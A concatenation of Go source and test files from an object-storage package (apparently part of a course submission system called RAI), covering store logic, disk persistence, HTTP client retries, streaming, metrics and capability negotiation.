		t.Fatalf("bad manifest answered %d, want 400", resp2.StatusCode)
	}
}

// TestCASAuthGated: the delta endpoints honor the same AuthFunc as /o/.
func TestCASAuthGated(t *testing.T) {
	s := New()
	deny := func(accessKey, signature string, r *http.Request) bool { return false }
	srv := httptest.NewServer(Handler(s, deny))
	defer srv.Close()
	for _, path := range []string{"/cas/negotiate", "/cas/chunks"} {
		resp, err := http.Post(srv.URL+path, "application/octet-stream", strings.NewReader("x"))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("%s answered %d without credentials, want 403", path, resp.StatusCode)
		}
	}
}

// TestCASFallbackAgainstOldServer: a server whose /caps omits the cas
// field (or has no /caps at all) makes MissingChunks report
// ErrCASUnsupported instead of failing the submission.
func TestCASFallbackAgainstOldServer(t *testing.T) {
	old := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/caps" {
			fmt.Fprint(w, `{"stream":true,"atomic_rename":true}`)
			return
		}
		http.NotFound(w, r)
	}))
	defer old.Close()
	c := NewClient(old.URL, WithClientPolicy(retryPolicy()))
	m, _ := buildTestTree(t, map[string]string{"f": "x"})
	if _, err := c.MissingChunks(ctx, m); !errors.Is(err, ErrCASUnsupported) {
		t.Fatalf("pre-cas server: err = %v, want ErrCASUnsupported", err)
	}

	ancient := httptest.NewServer(http.HandlerFunc(http.NotFound)) // no /caps either
	defer ancient.Close()
	c2 := NewClient(ancient.URL, WithClientPolicy(retryPolicy()))
	if _, err := c2.MissingChunks(ctx, m); !errors.Is(err, ErrCASUnsupported) {
		t.Fatalf("no-caps server: err = %v, want ErrCASUnsupported", err)
	}
}
