package objstore

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"rai/internal/netx"
)

func retryPolicy() netx.Policy {
	return netx.Policy{MaxAttempts: 4, BaseDelay: time.Millisecond, MaxDelay: 5 * time.Millisecond}
}

// TestClientRetriesTransientFailures drops the first two requests at
// the transport and expects the Put to go through anyway — with the
// body intact, proving each attempt rebuilds its request reader.
func TestClientRetriesTransientFailures(t *testing.T) {
	s := New()
	srv := httptest.NewServer(Handler(s, nil))
	defer srv.Close()
	ft := &netx.FlakyTransport{Fail: 2}
	c := NewClient(srv.URL, WithClientPolicy(retryPolicy()), WithClientTransport(ft))

	if err := c.Put(ctx, "b", "k", []byte("payload"), 0); err != nil {
		t.Fatal(err)
	}
	if ft.Attempts() != 3 {
		t.Errorf("attempts = %d, want 3", ft.Attempts())
	}
	got, err := c.Get(ctx, "b", "k")
	if err != nil || string(got) != "payload" {
		t.Fatalf("get after flaky put = %q, %v", got, err)
	}
}

// TestClientNotFoundFailsFast pins that a 404 is permanent: one
// request, no retry burn, and the sentinel still matches.
func TestClientNotFoundFailsFast(t *testing.T) {
	s := New()
	srv := httptest.NewServer(Handler(s, nil))
	defer srv.Close()
	ft := &netx.FlakyTransport{} // counts requests, drops none
	c := NewClient(srv.URL, WithClientPolicy(retryPolicy()), WithClientTransport(ft))

	_, err := c.Get(ctx, "b", "missing")
	if !errors.Is(err, ErrNoObject) {
		t.Fatalf("err = %v, want ErrNoObject", err)
	}
	var se *netx.StatusError
	if !errors.As(err, &se) || se.Code != http.StatusNotFound {
		t.Errorf("status not preserved: %v", err)
	}
	if ft.Attempts() != 1 {
		t.Errorf("attempts = %d, want 1 (404 must not retry)", ft.Attempts())
	}
}

// TestClientHonorsContext pins prompt abort: a canceled ctx stops the
// call before any retries run.
func TestClientHonorsContext(t *testing.T) {
	s := New()
	srv := httptest.NewServer(Handler(s, nil))
	defer srv.Close()
	c := NewClient(srv.URL, WithClientPolicy(retryPolicy()))
	cctx, cancel := context.WithCancel(context.Background())
	cancel()
	if err := c.Put(cctx, "b", "k", []byte("x"), 0); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}
