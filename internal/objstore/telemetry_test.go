package objstore

import (
	"context"
	"net/http/httptest"
	"testing"

	"rai/internal/telemetry"
)

func TestHandlerMetrics(t *testing.T) {
	reg := telemetry.NewRegistry()
	store := New()
	srv := httptest.NewServer(Handler(store, nil, WithTelemetry(reg)))
	defer srv.Close()
	c := NewClient(srv.URL)

	payload := []byte("archive-bytes")
	if err := c.Put(context.Background(), "uploads", "team/j1/project.tar.bz2", payload, 0); err != nil {
		t.Fatal(err)
	}
	got, err := c.Get(context.Background(), "uploads", "team/j1/project.tar.bz2")
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != string(payload) {
		t.Fatalf("round trip mismatch: %q", got)
	}
	if _, err := c.List(context.Background(), "uploads", ""); err != nil {
		t.Fatal(err)
	}

	res, err := srv.Client().Get(srv.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	snap, err := telemetry.ParseText(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name string
		ls   []telemetry.Label
		want float64
	}{
		{"rai_objstore_requests_total", []telemetry.Label{telemetry.L("op", "put")}, 1},
		{"rai_objstore_requests_total", []telemetry.Label{telemetry.L("op", "get")}, 1},
		{"rai_objstore_requests_total", []telemetry.Label{telemetry.L("op", "list")}, 1},
		{"rai_objstore_bytes_total", []telemetry.Label{telemetry.L("direction", "in")}, float64(len(payload))},
		{"rai_objstore_used_bytes", nil, float64(len(payload))},
		{"rai_objstore_requests_in_flight", nil, 0},
		{"rai_objstore_request_seconds_count", []telemetry.Label{telemetry.L("op", "get")}, 1},
	} {
		if v, ok := snap.Value(tc.name, tc.ls...); !ok || v != tc.want {
			t.Errorf("%s%v = %v,%v, want %v", tc.name, tc.ls, v, ok, tc.want)
		}
	}
	if v, ok := snap.Value("rai_objstore_bytes_total", telemetry.L("direction", "out")); !ok || v < float64(len(payload)) {
		t.Errorf("bytes out = %v,%v, want >= %d", v, ok, len(payload))
	}
	// The scrape declares all three instrument types.
	if snap.Type("rai_objstore_requests_total") != "counter" ||
		snap.Type("rai_objstore_used_bytes") != "gauge" ||
		snap.Type("rai_objstore_request_seconds") != "histogram" {
		t.Error("scrape missing counter/gauge/histogram TYPE declarations")
	}
}
