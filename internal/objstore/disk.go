package objstore

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

// Disk persistence: the raifs daemon can write objects through to a
// directory so the 100 GB of student uploads (§VII) survive restarts —
// the durability S3 provided the original deployment.
//
// Layout under the root directory:
//
//	<root>/<bucket>/<key-with-slashes-escaped>        object bytes
//	<root>/<bucket>/<key-with-slashes-escaped>.meta   ObjectInfo JSON
//
// Keys may contain '/', which is escaped as "%2F" in file names so the
// on-disk layout stays flat per bucket (no traversal surface).

// WithDiskDir makes the store write-through to dir and load existing
// objects from it at construction.
func WithDiskDir(dir string) Option {
	return func(s *Store) { s.diskDir = dir }
}

// escapeKey flattens an object key into a single path segment.
func escapeKey(key string) string {
	key = strings.ReplaceAll(key, "%", "%25")
	return strings.ReplaceAll(key, "/", "%2F")
}

func unescapeKey(name string) string {
	name = strings.ReplaceAll(name, "%2F", "/")
	return strings.ReplaceAll(name, "%25", "%")
}

// loadDisk populates the store from the disk directory.
func (s *Store) loadDisk() error {
	entries, err := os.ReadDir(s.diskDir)
	if os.IsNotExist(err) {
		return os.MkdirAll(s.diskDir, 0o755)
	}
	if err != nil {
		return err
	}
	for _, bucketEnt := range entries {
		if !bucketEnt.IsDir() {
			continue
		}
		bucket := bucketEnt.Name()
		if !validBucket(bucket) {
			continue
		}
		bucketDir := filepath.Join(s.diskDir, bucket)
		files, err := os.ReadDir(bucketDir)
		if err != nil {
			return err
		}
		bk := map[string]*object{}
		for _, f := range files {
			name := f.Name()
			if f.IsDir() || strings.HasSuffix(name, ".meta") {
				continue
			}
			data, err := os.ReadFile(filepath.Join(bucketDir, name))
			if err != nil {
				return err
			}
			var info ObjectInfo
			metaRaw, err := os.ReadFile(filepath.Join(bucketDir, name+".meta"))
			if err != nil {
				return fmt.Errorf("objstore: object %s/%s has no metadata: %w", bucket, name, err)
			}
			if err := json.Unmarshal(metaRaw, &info); err != nil {
				return fmt.Errorf("objstore: corrupt metadata for %s/%s: %w", bucket, name, err)
			}
			key := unescapeKey(name)
			info.Bucket, info.Key = bucket, key
			bk[key] = &object{data: data, info: info}
			s.used += info.Size
		}
		s.buckets[bucket] = bk
	}
	return nil
}

// persistPut writes an object through to disk (caller holds s.mu).
func (s *Store) persistPut(obj *object) error {
	if s.diskDir == "" {
		return nil
	}
	bucketDir := filepath.Join(s.diskDir, obj.info.Bucket)
	if err := os.MkdirAll(bucketDir, 0o755); err != nil {
		return err
	}
	name := escapeKey(obj.info.Key)
	if err := os.WriteFile(filepath.Join(bucketDir, name), obj.data, 0o600); err != nil {
		return err
	}
	meta, err := json.Marshal(obj.info)
	if err != nil {
		return err
	}
	return os.WriteFile(filepath.Join(bucketDir, name+".meta"), meta, 0o600)
}

// persistDelete removes an object's files (caller holds s.mu).
func (s *Store) persistDelete(bucket, key string) {
	if s.diskDir == "" {
		return
	}
	name := escapeKey(key)
	os.Remove(filepath.Join(s.diskDir, bucket, name))
	os.Remove(filepath.Join(s.diskDir, bucket, name+".meta"))
}
