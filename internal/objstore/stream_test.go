package objstore

import (
	"bytes"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"rai/internal/netx"
	"rai/internal/telemetry"
)

// TestHTTPPutTooLargeAborts pins the 413 path: a body over the limit is
// rejected mid-stream, nothing partial becomes visible, and the store's
// byte accounting stays clean.
func TestHTTPPutTooLargeAborts(t *testing.T) {
	s := New()
	srv := httptest.NewServer(Handler(s, nil, WithMaxObjectBytes(64)))
	defer srv.Close()

	req, err := http.NewRequest(http.MethodPut, srv.URL+"/o/b/big", strings.NewReader(strings.Repeat("x", 200)))
	if err != nil {
		t.Fatal(err)
	}
	res, err := srv.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusRequestEntityTooLarge {
		t.Fatalf("status = %d, want 413", res.StatusCode)
	}
	if _, err := s.Head("b", "big"); err == nil {
		t.Error("partial object visible after 413")
	}
	if used := s.Used(); used != 0 {
		t.Errorf("used = %d after aborted upload, want 0", used)
	}

	// At the limit exactly is still accepted.
	req, err = http.NewRequest(http.MethodPut, srv.URL+"/o/b/fits", strings.NewReader(strings.Repeat("y", 64)))
	if err != nil {
		t.Fatal(err)
	}
	res, err = srv.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusCreated {
		t.Fatalf("status = %d, want 201", res.StatusCode)
	}
}

// TestHTTPStreamCounters pins that the streaming counters account the
// payload bytes in both directions.
func TestHTTPStreamCounters(t *testing.T) {
	reg := telemetry.NewRegistry()
	s := New()
	srv := httptest.NewServer(Handler(s, nil, WithTelemetry(reg)))
	defer srv.Close()
	c := NewClient(srv.URL)

	payload := bytes.Repeat([]byte("stream"), 100)
	if err := c.PutReader(ctx, "b", "k", bytes.NewReader(payload), int64(len(payload)), 0); err != nil {
		t.Fatal(err)
	}
	rc, size, err := c.GetReader(ctx, "b", "k")
	if err != nil {
		t.Fatal(err)
	}
	got, err := io.ReadAll(rc)
	rc.Close()
	if err != nil || !bytes.Equal(got, payload) {
		t.Fatalf("get reader round trip: %d bytes, %v", len(got), err)
	}
	if size != int64(len(payload)) {
		t.Errorf("content length = %d, want %d", size, len(payload))
	}

	res, err := srv.Client().Get(srv.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	snap, err := telemetry.ParseText(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	want := float64(len(payload))
	if v, ok := snap.Value("rai_objstore_stream_bytes_total", telemetry.L("direction", "in")); !ok || v != want {
		t.Errorf("stream bytes in = %v,%v, want %v", v, ok, want)
	}
	if v, ok := snap.Value("rai_objstore_stream_bytes_total", telemetry.L("direction", "out")); !ok || v != want {
		t.Errorf("stream bytes out = %v,%v, want %v", v, ok, want)
	}
}

// TestClientPutReaderRewindsOnRetry drops the first two attempts at the
// transport; a seekable body must rewind and upload intact.
func TestClientPutReaderRewindsOnRetry(t *testing.T) {
	s := New()
	srv := httptest.NewServer(Handler(s, nil))
	defer srv.Close()
	ft := &netx.FlakyTransport{Fail: 2}
	c := NewClient(srv.URL, WithClientPolicy(retryPolicy()), WithClientTransport(ft))

	payload := []byte("seekable payload")
	if err := c.PutReader(ctx, "b", "k", bytes.NewReader(payload), int64(len(payload)), 0); err != nil {
		t.Fatal(err)
	}
	if ft.Attempts() != 3 {
		t.Errorf("attempts = %d, want 3", ft.Attempts())
	}
	got, _, err := s.Get("b", "k")
	if err != nil || !bytes.Equal(got, payload) {
		t.Fatalf("stored content = %q, %v", got, err)
	}
}

// TestClientPutReaderNonSeekableSingleAttempt pins that a one-shot body
// is never replayed: the client downgrades to a single attempt rather
// than retrying with a half-consumed reader.
func TestClientPutReaderNonSeekableSingleAttempt(t *testing.T) {
	s := New()
	srv := httptest.NewServer(Handler(s, nil))
	defer srv.Close()
	ft := &netx.FlakyTransport{Fail: 1}
	c := NewClient(srv.URL, WithClientPolicy(retryPolicy()), WithClientTransport(ft))

	// io.MultiReader hides the ReadSeeker, making the body one-shot.
	body := io.MultiReader(strings.NewReader("one-shot"))
	err := c.PutReader(ctx, "b", "k", body, 8, 0)
	if err == nil {
		t.Fatal("expected the single attempt to fail")
	}
	if ft.Attempts() != 1 {
		t.Errorf("attempts = %d, want 1 (non-seekable body must not retry)", ft.Attempts())
	}
}

// TestClientGetReaderStreams pins that the body stays readable after the
// call returns (the retry loop must not cancel its context) and that a
// missing object still maps to the sentinel.
func TestClientGetReaderStreams(t *testing.T) {
	s := New()
	srv := httptest.NewServer(Handler(s, nil))
	defer srv.Close()
	c := NewClient(srv.URL, WithClientPolicy(retryPolicy()))

	payload := bytes.Repeat([]byte("z"), 4096)
	if _, err := s.Put("b", "k", payload, 0); err != nil {
		t.Fatal(err)
	}
	rc, size, err := c.GetReader(ctx, "b", "k")
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	if size != int64(len(payload)) {
		t.Errorf("size = %d, want %d", size, len(payload))
	}
	got, err := io.ReadAll(rc)
	if err != nil || !bytes.Equal(got, payload) {
		t.Fatalf("streamed read: %d bytes, %v", len(got), err)
	}

	if _, _, err := c.GetReader(ctx, "b", "missing"); !errors.Is(err, ErrNoObject) {
		t.Errorf("missing object err = %v, want ErrNoObject", err)
	}
}

// TestClientCaps pins capability negotiation: a current server reports
// its backend's capabilities, and a pre-capability server (no /caps
// route) degrades to the zero value without error.
func TestClientCaps(t *testing.T) {
	s := New()
	srv := httptest.NewServer(Handler(s, nil))
	defer srv.Close()
	c := NewClient(srv.URL)

	caps, err := c.Caps(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if !caps.Stream || !caps.Watch || !caps.Append {
		t.Errorf("memory-backed server caps = %+v, want stream/watch/append", caps)
	}
	if caps.AtomicRename {
		t.Errorf("memory backend must not claim atomic-rename: %+v", caps)
	}

	old := httptest.NewServer(http.NotFoundHandler())
	defer old.Close()
	oc := NewClient(old.URL)
	caps, err = oc.Caps(ctx)
	if err != nil {
		t.Fatalf("caps against old server: %v", err)
	}
	if caps != (Caps{}) {
		t.Errorf("old server caps = %+v, want zero", caps)
	}
}
