// Package objstore implements the S3-like object file server RAI uses
// (paper §IV "File Storage Server"): student project uploads, worker
// /build outputs, and instructor bulk downloads, with per-object
// lifetimes so files "can be configured to have a particular lifetime
// after which they get deleted" (1–3 months in the paper's deployment;
// expiry is measured from last use, matching §V step 3).
//
// The storage engine itself lives in internal/blobstore (memory and
// disk backends behind one streaming interface); this package is the
// object-server facade over a blobstore.Backend: an in-process API
// (Store), an HTTP server exposing it, and an HTTP client, so the same
// code path works embedded in simulations and as a standalone daemon.
// Archives stream through — PutReader/GetReader on both Store and
// Client move bytes without materializing them, and the []byte
// Put/Get remain as thin adapters for small objects and older callers.
package objstore

import (
	"context"
	"io"
	"time"

	"rai/internal/blobstore"
	"rai/internal/clock"
)

// Errors reported by the store. These alias the blobstore sentinels, so
// errors.Is works across both packages' names for the same condition.
var (
	ErrNoBucket  = blobstore.ErrNoBucket
	ErrNoObject  = blobstore.ErrNotFound
	ErrBadName   = blobstore.ErrBadName
	ErrQuota     = blobstore.ErrQuota
	ErrKeyExists = blobstore.ErrExists
)

// ObjectInfo is object metadata (the blobstore Info, re-exported under
// the name this package always used).
type ObjectInfo = blobstore.Info

// Store is the object-store engine: a thin, context-free facade over a
// blobstore.Backend, preserved because simulations and the HTTP
// handler drive it synchronously.
type Store struct {
	be blobstore.Backend
}

// Option configures the backend a Store constructor builds.
type Option func(*[]blobstore.Option)

// WithClock substitutes the time source.
func WithClock(c clock.Clock) Option {
	return func(o *[]blobstore.Option) { *o = append(*o, blobstore.WithClock(c)) }
}

// WithCapacity bounds total stored bytes.
func WithCapacity(n int64) Option {
	return func(o *[]blobstore.Option) { *o = append(*o, blobstore.WithCapacity(n)) }
}

// WithDefaultTTL sets the lifetime applied when Put is called with ttl=0.
// The paper's deployment used one month.
func WithDefaultTTL(d time.Duration) Option {
	return func(o *[]blobstore.Option) { *o = append(*o, blobstore.WithDefaultTTL(d)) }
}

func backendOptions(opts []Option) []blobstore.Option {
	var bopts []blobstore.Option
	for _, o := range opts {
		o(&bopts)
	}
	return bopts
}

// New creates an empty in-memory store. For a disk-backed store use
// Open; for mount tables or custom engines use NewWithBackend.
func New(opts ...Option) *Store {
	return &Store{be: blobstore.NewMemory(backendOptions(opts)...)}
}

// Open creates a store that persists objects under dir, loading whatever
// a previous run left there (only metadata is loaded; object bytes stay
// on disk and stream on demand).
func Open(dir string, opts ...Option) (*Store, error) {
	be, err := blobstore.NewDisk(dir, backendOptions(opts)...)
	if err != nil {
		return nil, err
	}
	return &Store{be: be}, nil
}

// NewWithBackend wraps an existing backend (e.g. a blobstore.Table
// routing bucket prefixes to different engines).
func NewWithBackend(be blobstore.Backend) *Store { return &Store{be: be} }

// Backend exposes the underlying engine for capability negotiation and
// watch subscriptions.
func (s *Store) Backend() blobstore.Backend { return s.be }

// Capabilities reports what the underlying backend supports.
func (s *Store) Capabilities() blobstore.Capability { return s.be.Capabilities() }

// Close releases the backend (ends watch subscriptions).
func (s *Store) Close() error { return s.be.Close() }

// The Store API is deliberately context-free — simulations and tests
// drive it synchronously — so this is the one sanctioned root context
// for the backend calls underneath it. Context-aware callers use
// PutReader/GetReader/Watch, which take the caller's context.
//
//lint:ignore ctxbg the context-free Store facade needs a root context; ctx-aware callers use the *Reader/Watch methods
var storeCtx = context.Background()

// CreateBucket makes a bucket; creating an existing bucket is an error.
func (s *Store) CreateBucket(bucket string) error {
	return s.be.MakeBucket(storeCtx, bucket)
}

// Put stores data at bucket/key (creating the bucket implicitly, as the
// RAI deployment pre-creates only a handful of well-known buckets). A
// zero ttl adopts the store default. Thin adapter over PutReader for
// callers holding small objects in memory.
func (s *Store) Put(bucket, key string, data []byte, ttl time.Duration) (ObjectInfo, error) {
	w, err := s.be.Create(storeCtx, bucket, key, blobstore.PutOptions{TTL: ttl})
	if err != nil {
		return ObjectInfo{}, err
	}
	if _, err := w.Write(data); err != nil {
		w.Abort()
		return ObjectInfo{}, err
	}
	if err := w.Close(); err != nil {
		return ObjectInfo{}, err
	}
	return w.Info(), nil
}

// PutReader streams r into bucket/key; nothing becomes visible unless
// the whole stream commits, and a failed copy cleans up its partial
// write.
func (s *Store) PutReader(ctx context.Context, bucket, key string, r io.Reader, ttl time.Duration) (ObjectInfo, error) {
	w, err := s.be.Create(ctx, bucket, key, blobstore.PutOptions{TTL: ttl})
	if err != nil {
		return ObjectInfo{}, err
	}
	if _, err := io.Copy(w, r); err != nil {
		w.Abort()
		return ObjectInfo{}, err
	}
	if err := w.Close(); err != nil {
		return ObjectInfo{}, err
	}
	return w.Info(), nil
}

// Get returns the object content and refreshes its last-use time (the
// paper: "deleted one month after the last use"). Thin adapter over
// GetReader; the returned slice is freshly allocated, never aliasing
// store internals.
func (s *Store) Get(bucket, key string) ([]byte, ObjectInfo, error) {
	rc, info, err := s.be.Open(storeCtx, bucket, key)
	if err != nil {
		return nil, ObjectInfo{}, err
	}
	defer rc.Close()
	data := make([]byte, info.Size)
	if _, err := io.ReadFull(rc, data); err != nil {
		return nil, ObjectInfo{}, err
	}
	return data, info, nil
}

// GetReader returns a streaming reader over the object content,
// refreshing last-use. The caller must Close it.
func (s *Store) GetReader(ctx context.Context, bucket, key string) (io.ReadCloser, ObjectInfo, error) {
	return s.be.Open(ctx, bucket, key)
}

// Head returns metadata without touching last-use.
func (s *Store) Head(bucket, key string) (ObjectInfo, error) {
	return s.be.Stat(storeCtx, bucket, key)
}

// Delete removes an object.
func (s *Store) Delete(bucket, key string) error {
	return s.be.Remove(storeCtx, bucket, key)
}

// List returns metadata for keys in bucket with the given prefix, sorted
// by key. Expired objects are excluded (and lazily collected).
func (s *Store) List(bucket, prefix string) ([]ObjectInfo, error) {
	return s.be.List(storeCtx, bucket, prefix)
}

// Buckets lists bucket names, sorted.
func (s *Store) Buckets() []string {
	names, err := s.be.Buckets(storeCtx)
	if err != nil {
		return nil
	}
	return names
}

// Used reports total stored bytes (expired-but-uncollected objects
// included until a sweep or access removes them).
func (s *Store) Used() int64 {
	n, err := s.be.Used(storeCtx)
	if err != nil {
		return 0
	}
	return n
}

// Sweep removes all expired objects and reports how many were deleted.
// Deployments run this periodically; simulations call it explicitly.
func (s *Store) Sweep() int {
	n, err := s.be.Sweep(storeCtx)
	if err != nil {
		return 0
	}
	return n
}

// Touch refreshes an object's last-use time without reading it (used
// when a URL is shared but the content is not yet fetched).
func (s *Store) Touch(bucket, key string) error {
	return s.be.Touch(storeCtx, bucket, key)
}

// Watch subscribes to create/update/delete events for bucket ("" = all)
// when the backend supports watching.
func (s *Store) Watch(ctx context.Context, bucket string) (*blobstore.Subscription, error) {
	return s.be.Watch(ctx, bucket)
}
