// Package objstore implements the S3-like object file server RAI uses
// (paper §IV "File Storage Server"): student project uploads, worker
// /build outputs, and instructor bulk downloads, with per-object
// lifetimes so files "can be configured to have a particular lifetime
// after which they get deleted" (1–3 months in the paper's deployment;
// expiry is measured from last use, matching §V step 3).
//
// The package provides an in-process engine (Store), an HTTP server
// exposing it, and an HTTP client, so the same code path works embedded
// in simulations and as a standalone daemon.
package objstore

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"
	"time"

	"rai/internal/clock"
)

// Errors reported by the store.
var (
	ErrNoBucket  = errors.New("objstore: no such bucket")
	ErrNoObject  = errors.New("objstore: no such object")
	ErrBadName   = errors.New("objstore: invalid bucket or key")
	ErrQuota     = errors.New("objstore: capacity exceeded")
	ErrKeyExists = errors.New("objstore: bucket already exists")
)

// ObjectInfo is object metadata.
type ObjectInfo struct {
	Bucket   string
	Key      string
	Size     int64
	ETag     string // hex SHA-256 of the content
	Modified time.Time
	LastUsed time.Time
	// TTL is the lifetime measured from LastUsed; zero means no expiry.
	TTL time.Duration
}

type object struct {
	data []byte
	info ObjectInfo
}

// Store is the in-memory object store engine.
type Store struct {
	mu       sync.RWMutex
	buckets  map[string]map[string]*object
	clk      clock.Clock
	capacity int64 // 0 = unlimited
	used     int64
	// defaultTTL applies to objects stored without an explicit TTL.
	defaultTTL time.Duration
	// diskDir, when set, write-throughs objects to disk (see disk.go).
	diskDir string
}

// Option configures a Store.
type Option func(*Store)

// WithClock substitutes the time source.
func WithClock(c clock.Clock) Option { return func(s *Store) { s.clk = c } }

// WithCapacity bounds total stored bytes.
func WithCapacity(n int64) Option { return func(s *Store) { s.capacity = n } }

// WithDefaultTTL sets the lifetime applied when Put is called with ttl=0.
// The paper's deployment used one month.
func WithDefaultTTL(d time.Duration) Option { return func(s *Store) { s.defaultTTL = d } }

// New creates an empty in-memory store. For a disk-backed store use
// Open (WithDiskDir passed here is ignored to keep New infallible).
func New(opts ...Option) *Store {
	s := &Store{buckets: map[string]map[string]*object{}, clk: clock.Real{}}
	for _, o := range opts {
		o(s)
	}
	s.diskDir = ""
	return s
}

// Open creates a store that persists objects under dir, loading whatever
// a previous run left there.
func Open(dir string, opts ...Option) (*Store, error) {
	s := &Store{buckets: map[string]map[string]*object{}, clk: clock.Real{}}
	for _, o := range opts {
		o(s)
	}
	s.diskDir = dir
	if err := s.loadDisk(); err != nil {
		return nil, fmt.Errorf("objstore: loading %s: %w", dir, err)
	}
	return s, nil
}

func validBucket(b string) bool {
	if b == "" || len(b) > 63 {
		return false
	}
	for _, r := range b {
		switch {
		case r >= 'a' && r <= 'z', r >= '0' && r <= '9', r == '-', r == '.':
		default:
			return false
		}
	}
	return true
}

func validKey(k string) bool {
	if k == "" || len(k) > 512 || strings.HasPrefix(k, "/") {
		return false
	}
	for _, seg := range strings.Split(k, "/") {
		if seg == "" || seg == "." || seg == ".." {
			return false
		}
	}
	return true
}

// CreateBucket makes a bucket; creating an existing bucket is an error.
func (s *Store) CreateBucket(bucket string) error {
	if !validBucket(bucket) {
		return fmt.Errorf("%w: bucket %q", ErrBadName, bucket)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.buckets[bucket]; ok {
		return fmt.Errorf("%w: %q", ErrKeyExists, bucket)
	}
	s.buckets[bucket] = map[string]*object{}
	return nil
}

// Put stores data at bucket/key (creating the bucket implicitly, as the
// RAI deployment pre-creates only a handful of well-known buckets). A
// zero ttl adopts the store default.
func (s *Store) Put(bucket, key string, data []byte, ttl time.Duration) (ObjectInfo, error) {
	if !validBucket(bucket) || !validKey(key) {
		return ObjectInfo{}, fmt.Errorf("%w: %q/%q", ErrBadName, bucket, key)
	}
	if ttl == 0 {
		ttl = s.defaultTTL
	}
	sum := sha256.Sum256(data)
	s.mu.Lock()
	defer s.mu.Unlock()
	bk, ok := s.buckets[bucket]
	if !ok {
		bk = map[string]*object{}
		s.buckets[bucket] = bk
	}
	var prev int64
	if old, ok := bk[key]; ok {
		prev = old.info.Size
	}
	if s.capacity > 0 && s.used-prev+int64(len(data)) > s.capacity {
		return ObjectInfo{}, fmt.Errorf("%w: %d bytes requested", ErrQuota, len(data))
	}
	s.used += int64(len(data)) - prev
	now := s.clk.Now()
	obj := &object{
		data: append([]byte(nil), data...),
		info: ObjectInfo{
			Bucket: bucket, Key: key, Size: int64(len(data)),
			ETag: hex.EncodeToString(sum[:]), Modified: now, LastUsed: now, TTL: ttl,
		},
	}
	bk[key] = obj
	if err := s.persistPut(obj); err != nil {
		return ObjectInfo{}, fmt.Errorf("objstore: persisting %s/%s: %w", bucket, key, err)
	}
	return obj.info, nil
}

// Get returns the object content and refreshes its last-use time (the
// paper: "deleted one month after the last use").
func (s *Store) Get(bucket, key string) ([]byte, ObjectInfo, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	obj, err := s.lookupLocked(bucket, key)
	if err != nil {
		return nil, ObjectInfo{}, err
	}
	obj.info.LastUsed = s.clk.Now()
	return append([]byte(nil), obj.data...), obj.info, nil
}

// Head returns metadata without touching last-use.
func (s *Store) Head(bucket, key string) (ObjectInfo, error) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	obj, err := s.lookupLocked(bucket, key)
	if err != nil {
		return ObjectInfo{}, err
	}
	return obj.info, nil
}

func (s *Store) lookupLocked(bucket, key string) (*object, error) {
	bk, ok := s.buckets[bucket]
	if !ok {
		return nil, fmt.Errorf("%w: %q", ErrNoBucket, bucket)
	}
	obj, ok := bk[key]
	if !ok {
		return nil, fmt.Errorf("%w: %q/%q", ErrNoObject, bucket, key)
	}
	if s.expiredLocked(obj) {
		delete(bk, key)
		s.used -= obj.info.Size
		s.persistDelete(bucket, key)
		return nil, fmt.Errorf("%w: %q/%q (expired)", ErrNoObject, bucket, key)
	}
	return obj, nil
}

func (s *Store) expiredLocked(o *object) bool {
	return o.info.TTL > 0 && s.clk.Now().After(o.info.LastUsed.Add(o.info.TTL))
}

// Delete removes an object.
func (s *Store) Delete(bucket, key string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	bk, ok := s.buckets[bucket]
	if !ok {
		return fmt.Errorf("%w: %q", ErrNoBucket, bucket)
	}
	obj, ok := bk[key]
	if !ok {
		return fmt.Errorf("%w: %q/%q", ErrNoObject, bucket, key)
	}
	s.used -= obj.info.Size
	delete(bk, key)
	s.persistDelete(bucket, key)
	return nil
}

// List returns metadata for keys in bucket with the given prefix, sorted
// by key. Expired objects are excluded (and lazily collected).
func (s *Store) List(bucket, prefix string) ([]ObjectInfo, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	bk, ok := s.buckets[bucket]
	if !ok {
		return nil, fmt.Errorf("%w: %q", ErrNoBucket, bucket)
	}
	var out []ObjectInfo
	for key, obj := range bk {
		if !strings.HasPrefix(key, prefix) {
			continue
		}
		if s.expiredLocked(obj) {
			delete(bk, key)
			s.used -= obj.info.Size
			s.persistDelete(bucket, key)
			continue
		}
		out = append(out, obj.info)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Key < out[j].Key })
	return out, nil
}

// Buckets lists bucket names, sorted.
func (s *Store) Buckets() []string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	out := make([]string, 0, len(s.buckets))
	for b := range s.buckets {
		out = append(out, b)
	}
	sort.Strings(out)
	return out
}

// Used reports total stored bytes (expired-but-uncollected objects
// included until a sweep or access removes them).
func (s *Store) Used() int64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.used
}

// Sweep removes all expired objects and reports how many were deleted.
// Deployments run this periodically; simulations call it explicitly.
func (s *Store) Sweep() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for bucket, bk := range s.buckets {
